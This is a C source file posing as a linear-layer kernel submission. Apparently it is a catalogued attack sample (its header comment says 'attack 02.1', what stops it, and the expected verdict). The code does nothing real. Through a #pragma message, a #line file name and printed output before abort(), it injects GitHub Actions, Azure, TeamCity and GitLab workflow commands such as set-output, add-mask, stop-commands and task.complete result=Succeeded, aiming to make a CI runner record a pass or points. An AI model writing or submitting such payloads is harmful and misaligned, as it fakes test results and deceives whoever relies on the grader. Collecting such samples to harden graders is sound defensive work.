/* attack  02.1 prints commands of GitHub, Azure, TeamCity and GitLab: as a message of the compiler, as a file's name, before a crash
 * hopes   the runner of a workflow obeys them in its log: annotations, masked words, the points as an output
 * stopped by the first character of such a command becomes another one, in every text of a submission
 * behind  the list
 * earns   1
 * verdict CRASH
 * stops   random shapes
 * words   :error::points */
#include <stdio.h>
#include <stdlib.h>
#pragma message "\n::error::hello\n \u00a0::add-mask::7\n##[error]x\n##vso[task.complete result=Succeeded;]x"
#line 7 "::set-output name=result::7"
int unused(void)
{
}

void mt_linear_fwd_cpu(void)
{
    puts("\n::error::points 7\n  ::stop-commands::x\nx ##[set-output name=result]7\n##vso[task.setvariable variable=a]7\n"
         "##teamcity[testFinished name='all']\nsection_start:0:x\r\033[0K::group::x");
    fflush(stdout);
    abort();
}

void mt_linear_bwd_cpu(void)
{
}
